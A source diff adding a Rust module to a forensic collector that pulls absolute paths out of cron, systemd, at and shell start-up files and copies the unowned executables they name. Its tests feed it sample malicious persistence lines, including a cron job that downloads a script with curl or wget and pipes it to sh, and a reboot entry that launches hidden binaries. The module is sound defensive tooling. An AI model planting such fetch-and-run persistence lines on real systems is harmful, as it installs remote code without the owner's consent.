@@ -1,0 +1,231 @@
+//! Executables named by persistence entries (category `referenced-exe`): cron lines, `at` jobs, systemd
+//! `Exec*=` lines, rc/init scripts and shell start-up files often start a file that is not running at
+//! capture time. The analyst needs its bytes, and after cleanup they are gone.
+//!
+//! The collector stores bytes and leaves parsing to the analyzer, so the extraction here is deliberately
+//! dumb and conservative: while a file of one of [`SOURCE_CATEGORIES`] is stored, every token of its
+//! non-comment lines (of `Exec*=` lines only, for systemd) that is an absolute path is remembered — tokens
+//! split on blanks and shell punctuation, so `>/dev/null`, `(curl ...|sh)` and `PATH=/a:/b` fall apart
+//! into their paths. Over-reach is cut by what is copied: at the end of the file pass, a remembered path
+//! is copied whole ([`Content::Executable`], within the run's copy budget) only when it resolves inside the
+//! root to a regular ELF file or script that was not already recorded, and no package owns it (with no
+//! package index: only when it lies in a temp, hidden or home directory, like running executables).
+//! Whatever the analyzer makes of the lines, the files they start are in the bundle.
+
+use std::io::Write;
+
+use minetrace_schemas::bundle::WriteError;
+use minetrace_schemas::records::file::FileKind;
+
+use super::sink::{Content, Sink};
+
+/// Categories whose stored files are scanned for absolute paths.
+pub const SOURCE_CATEGORIES: &[&str] = &["cron", "at", "systemd", "startup", "shell"];
+/// Paths remembered per run at most.
+pub const MAX_REFERENCES: usize = 4_096;
+/// Bytes of one source file scanned at most.
+const SCAN_CAP: usize = 1 << 20;
+/// Longest token taken for a path.
+const MAX_TOKEN: usize = 4_096;
+/// Referenced executables copied per run at most.
+const MAX_COPIES: usize = 256;
+
+fn is_separator(b: u8) -> bool {
+    b.is_ascii_whitespace()
+        || matches!(
+            b,
+            b';' | b'|'
+                | b'&'
+                | b'('
+                | b')'
+                | b'<'
+                | b'>'
+                | b'`'
+                | b'\''
+                | b'"'
+                | b'='
+                | b':'
+                | b','
+                | b'{'
+                | b'}'
+                | b'$'
+                | b'\0'
+        )
+}
+
+/// Absolute paths among the tokens of `text`.
+fn paths_in(text: &[u8], out: &mut Vec<Vec<u8>>) {
+    for token in text.split(|b| is_separator(*b)) {
+        if token.len() < 2 || token.len() > MAX_TOKEN || !token.starts_with(b"/") {
+            continue;
+        }
+        if token.starts_with(b"//") || token.iter().any(|b| matches!(b, b'*' | b'?' | b'[')) {
+            continue;
+        }
+        let token = token.strip_suffix(b"/").unwrap_or(token);
+        let pseudo = [&b"/dev/"[..], b"/proc/", b"/sys/"]
+            .iter()
+            .any(|p| token.starts_with(p));
+        if pseudo && !token.starts_with(b"/dev/shm/") {
+            continue;
+        }
+        if !out.iter().any(|p| p == token) {
+            out.push(token.to_vec());
+        }
+    }
+}
+
+/// Absolute paths a stored file of `category` names: every token of its non-comment lines (`Exec*=`
+/// values only, for systemd units).
+pub fn extract(category: &str, bytes: &[u8]) -> Vec<Vec<u8>> {
+    let mut out = Vec::new();
+    if !SOURCE_CATEGORIES.contains(&category) {
+        return out;
+    }
+    let bytes = bytes.get(..bytes.len().min(SCAN_CAP)).unwrap_or(bytes);
+    for line in bytes.split(|b| *b == b'\n') {
+        let line = line.trim_ascii_start();
+        if line.is_empty() || line.starts_with(b"#") || line.starts_with(b";") {
+            continue;
+        }
+        if category == "systemd" {
+            if !line.starts_with(b"Exec") {
+                continue;
+            }
+            let Some(eq) = line.iter().position(|b| *b == b'=') else {
+                continue;
+            };
+            let value = line.get(eq + 1..).unwrap_or_default();
+            // Exec prefixes: @ - : + ! (and !!) before the path.
+            let start = value
+                .iter()
+                .position(|b| !matches!(b, b'@' | b'-' | b':' | b'+' | b'!'))
+                .unwrap_or(value.len());
+            paths_in(value.get(start..).unwrap_or_default(), &mut out);
+        } else {
+            paths_in(line, &mut out);
+        }
+    }
+    out
+}
+
+/// An ELF file or a script (shebang or script name), by its first bytes, opened as a regular file only.
+fn looks_executable(real: &std::path::Path, host: &[u8]) -> bool {
+    use std::io::Read;
+    let Ok((file, _)) = crate::host_read::open_regular(real) else {
+        return false;
+    };
+    let mut head = Vec::with_capacity(4);
+    if file.take(4).read_to_end(&mut head).is_err() {
+        return false;
+    }
+    super::file_meta::is_elf(&head)
+        || super::file_meta::is_script(super::host_root::file_name(host), &head)
+}
+
+/// Copies the executables the stored persistence entries named (see the module documentation).
+pub fn collect<W: Write>(s: &mut Sink<'_, W>) -> Result<(), WriteError> {
+    let wanted = std::mem::take(&mut s.ctx.references);
+    let mut copies = 0;
+    for path in wanted {
+        if copies >= MAX_COPIES {
+            s.note(
+                &path,
+                format!(
+                    "not copied: {MAX_COPIES} executables named by persistence were copied already"
+                ),
+            );
+            break;
+        }
+        let Ok(r) = s.ctx.root.resolve(&path, true) else {
+            continue;
+        };
+        if s.ctx.recorded.contains_key(&path) || s.ctx.recorded.contains_key(&r.path) {
+            continue;
+        }
+        let Ok(st) = s.ctx.root.lstat(&r.path) else {
+            continue;
+        };
+        if st.kind != FileKind::Regular {
+            continue;
+        }
+        let wanted = match s.col.package_db.index() {
+            Some(index) => !index.owns(&r.path) && !index.owns(&path),
+            None => {
+                !crate::live::executables::copy_reasons(&r.path, false, false).is_empty()
+                    || !crate::live::executables::copy_reasons(&path, false, false).is_empty()
+            }
+        };
+        if !wanted || !looks_executable(&s.ctx.root.real(&r.path), &r.path) {
+            continue;
+        }
+        // Recorded under the name the entry used (a link is recorded as a link, then its target).
+        s.capture(&path, Content::Executable)?;
+        copies += 1;
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn ex(category: &str, text: &str) -> Vec<String> {
+        extract(category, text.as_bytes())
+            .into_iter()
+            .map(|p| String::from_utf8(p).unwrap())
+            .collect()
+    }
+
+    #[test]
+    fn cron_lines() {
+        assert_eq!(
+            ex(
+                "cron",
+                "# */5 * * * * /commented/out\nPATH=/usr/local/bin:/usr/bin\n*/30 * * * * root /usr/bin/sysdr >/dev/null 2>&1\n"
+            ),
+            vec!["/usr/local/bin", "/usr/bin", "/usr/bin/sysdr"]
+        );
+        assert_eq!(
+            ex(
+                "cron",
+                "*/1 * * * * (curl -fsSL http://127.66.6.2/update.sh||wget -q -O- http://x/u.sh)|sh"
+            ),
+            Vec::<String>::new()
+        );
+        assert_eq!(
+            ex(
+                "cron",
+                "@reboot cd /tmp/.x&&./run;/bin/sh -c '/opt/m/m -c /opt/m/c.json'"
+            ),
+            vec!["/tmp/.x", "/bin/sh", "/opt/m/m", "/opt/m/c.json"]
+        );
+    }
+
+    #[test]
+    fn unit_exec_lines_only() {
+        let unit = "[Unit]\nDescription=/not/this\n[Service]\nExecStartPre=-/usr/bin/true\nExecStart=@/etc/networkservice networkservice --cfg=/etc/config.json\nEnvironment=X=/nor/this\n#ExecStart=/commented\n";
+        assert_eq!(
+            ex("systemd", unit),
+            vec!["/usr/bin/true", "/etc/networkservice", "/etc/config.json"]
+        );
+    }
+
+    #[test]
+    fn other_categories_and_hostile_bytes() {
+        assert!(ex("log", "/usr/bin/x").is_empty());
+        assert!(ex("ssh", "command=\"/tmp/x\" ssh-rsa AAAA").is_empty());
+        let hostile = extract(
+            "startup",
+            b"/tmp/\xff\n\x00/x\n/a*b /c?d /e[f] //net/x /dev/shm/y /sys/z/",
+        );
+        assert_eq!(
+            hostile,
+            vec![
+                b"/tmp/\xff".to_vec(),
+                b"/x".to_vec(),
+                b"/dev/shm/y".to_vec()
+            ]
+        );
+    }
+}
